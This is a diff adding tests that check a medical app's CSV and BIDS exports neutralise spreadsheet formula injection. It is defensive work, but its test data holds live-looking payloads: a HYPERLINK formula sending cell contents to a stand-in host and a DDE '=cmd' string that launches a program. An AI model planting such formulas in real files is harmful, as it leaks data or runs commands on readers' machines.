@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import hashlib
+import io
 import json
 import tracemalloc
 from collections.abc import Iterator
@@ -1103,3 +1104,67 @@ def test_a_note_that_reads_n_a_is_not_a_missing_value_in_bids(tmp_path: Path) ->
         texts = [r["text"] for r in csv.DictReader(f, delimiter="\t")]
     assert texts == ["'n/a'", "n/a"]  # the note's own text; the treatment's missing one
     assert "written 'n/a', in single quotes" in json.loads(out.with_suffix(".json").read_text())["text"]["Description"]
+
+
+# Texts a spreadsheet (Excel, LibreOffice) runs as a formula when it opens the file (OWASP "CSV injection"),
+# and one that begins with the quote the rule puts in front (doubled, so one ' off gives each back).
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"the video")', "+1+1", "-2+3 ml", "@SUM(A1:A9)", "'quoted"]
+ORDINARY = 'filmed 3 spasms at 06:10, "jerky"; video 2024-03-11 06.10.mp4 (5 min)'
+
+
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_with_a_quote_in_front(tmp_path: Path) -> None:
+    """A note, a video's file name, a drug, a unit or a name typed by a family, beginning with = + - @
+    (or '), is written in the CSV and BIDS exports with a ' in front: a doctor's spreadsheet shows it
+    as text, never runs it. Old code: written as typed ('=HYPERLINK(...)' a live link in Excel). Numbers
+    are not touched; an ordinary text's bytes are the same as typed."""
+    from spasmwatch.store import Store
+
+    db = tmp_path / "s.db"
+    with Store(db) as store:
+        for i, text in enumerate(FORMULAS):
+            store.add_note(TREATMENT_T + i, "video", text, by="=cmd|' /C calc'!A0")
+        store.add_treatment(TREATMENT_T + 60, "@vigabatrin", "start", 50.0, "-mg/kg/day", note="=1+1", by="+Anna")
+        store.add_note(TREATMENT_T + 120, "note", ORDINARY, by="Anna")
+    _export(db, tmp_path / "t.csv", "csv")
+    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
+        table = list(csv.DictReader(f))
+    notes, (treat,), (ordinary,) = table[: len(FORMULAS)], table[len(FORMULAS) : -1], table[-1:]
+    assert [r["text"] for r in notes] == ["'" + t for t in FORMULAS]
+    assert {r["by"] for r in notes} == {"'=cmd|' /C calc'!A0"} and {r["note_kind"] for r in notes} == {"video"}
+    assert (treat["drug"], treat["unit"], treat["text"], treat["by"], treat["dose"]) == ("'@vigabatrin", "'-mg/kg/day", "'=1+1", "'+Anna", "50.0")
+    assert (ordinary["text"], ordinary["by"]) == (ORDINARY, "Anna")
+    as_before = io.StringIO()  # the ordinary row's bytes as the old writer (csv.writer) wrote them
+    csv.writer(as_before, lineterminator="\n").writerow(ordinary.values())
+    assert (tmp_path / "t.csv").read_bytes().endswith(as_before.getvalue().encode())
+    assert "FormulaCells" in json.loads((tmp_path / "t.json").read_text())
+    out = tmp_path / "sub-01_events.tsv"
+    _export(db, out, "bids")
+    with open(out, newline="", encoding="utf-8") as f:
+        bids = list(csv.DictReader(f, delimiter="\t"))
+    assert [r["text"] for r in bids] == ["'" + t for t in FORMULAS] + ["'=1+1", ORDINARY]
+    assert (bids[-2]["drug"], bids[-2]["unit"], bids[-2]["value"]) == ("'@vigabatrin", "'-mg/kg/day", "'@vigabatrin start 50 -mg/kg/day")
+    assert bids[0]["value"] == "note (video): " + FORMULAS[0]  # (begins with its kind: no formula)
+    assert "a ' in front" in json.loads(out.with_suffix(".json").read_text())["drug"]["Description"]
+    _export(db, tmp_path / "t.jsonl", "jsonl")  # typed formats keep every text as typed
+    assert [json.loads(x)["text"] for x in (tmp_path / "t.jsonl").read_text().splitlines()] == [*FORMULAS, "=1+1", ORDINARY]
+
+
+def test_numbers_stay_numbers_and_control_characters_first_are_neutralised_in_csv(tmp_path: Path) -> None:
+    """Only the free-text columns are touched: a negative number reads as a number (pyarrow's CSV reader,
+    which pandas' read_csv(engine='pyarrow') is), a text beginning with '-', a tab or a carriage return is
+    text, and a carriage return inside a text stays in its cell."""
+    import pyarrow.csv as pacsv
+
+    from spasmwatch.export.rows import NoteRow
+
+    src = Tables(spasm_rows=[SpasmRow(DEVICE, 1, 0, DAY0 + 5.0, 1.0, 100.0, -20.5, 80)],
+                 note_rows=[NoteRow(1, None, DAY0 + 6.0, "note", "-5 ml"), NoteRow(2, None, DAY0 + 7.0, "note", "\t=1+1"),
+                            NoteRow(3, None, DAY0 + 8.0, "note", "\r=1+1"), NoteRow(4, None, DAY0 + 9.0, "note", "seen\r=1+1, twice")])  # fmt: skip
+    q = Query(None, DAY0, DAY0 + 100.0)
+    t0, stream = relative(rows(src, q), DAY0)
+    assert export("csv", tmp_path / "x.csv", stream, Meta(q, t0)) == 5
+    read = pacsv.read_csv(tmp_path / "x.csv")
+    assert str(read.schema.field("peak_angle_deg").type) == "double" and read.column("peak_angle_deg")[0].as_py() == -20.5
+    assert str(read.schema.field("onset_s").type) == "double" and read.column("onset_s").to_pylist() == [5.0, 6.0, 7.0, 8.0, 9.0]
+    # (a carriage return inside a text is quoted: old code left it bare, a new row from there on)
+    assert read.column("text").to_pylist()[1:] == ["'-5 ml", "'\t=1+1", "'\r=1+1", "seen\r=1+1, twice"]
